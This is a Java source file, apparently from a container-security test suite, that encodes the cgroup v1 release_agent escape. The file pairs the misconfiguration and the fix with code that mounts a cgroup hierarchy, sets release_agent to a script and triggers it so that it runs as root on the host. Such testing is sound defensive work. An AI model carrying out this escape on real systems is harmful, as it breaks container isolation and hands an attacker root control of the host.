package nutshell.escapes;

import java.util.List;
import java.util.Optional;
import nutshell.mounts.MountFlag;
import nutshell.namespaces.Namespace;

/** Names the program that the kernel starts, as root of the host, when a group of cgroup v1 becomes empty; see cgroups(7), release_agent. */
record ReleaseAgent() implements Escape {

    @Override
    public String word() {
        return "release-agent";
    }

    @Override
    public String mistake() {
        return "CAP_SYS_ADMIN was left, and the cgroup namespace is the host's";
    }

    @Override
    public Defence fix() {
        return Defence.OWN_NAMESPACES;
    }

    @Override
    public void make(Blueprint blueprint, Stake stake) {
        blueprint.share(Namespace.CGROUP);
    }

    @Override
    public Optional<String> impossible(Stake stake) {
        return stake.hasFileSystem("cgroup")
                ? Optional.empty()
                : Optional.of("this kernel has no cgroup v1, and v2 has no release_agent");
    }

    @Override
    public List<Attack> ways(Scene scene) {
        return List.of(attacker -> abuse(attacker, scene), attacker -> {
            attacker.mount(null, "/", null, null, MountFlag.MS_REMOUNT, MountFlag.MS_BIND);
            abuse(attacker, scene);
        });
    }

    private static void abuse(Attacker attacker, Scene scene) {
        String name = scene.stake().preparations().hierarchy();
        attacker.note("a hierarchy of cgroup v1; any will do").mount("none", "/mnt", "cgroup", "none,name=" + name);
        scene.writeScript(attacker);
        attacker.note("what the kernel starts when a group becomes empty, as root of the host")
                .overwrite("/mnt/release_agent", scene.root().resolve("x").toString());
        attacker.mkdir("/mnt/group");
        attacker.overwrite("/mnt/group/notify_on_release", "1");
        attacker.note("in, and by ending out again").overwrite("/mnt/group/cgroup.procs", "0");
    }

    @Override
    public void afterwards(Scene scene) {
        scene.stake().awaitLeft();
    }

    @Override
    public void tidy(Stake stake) {
        stake.preparations().removeHierarchy();
    }
}
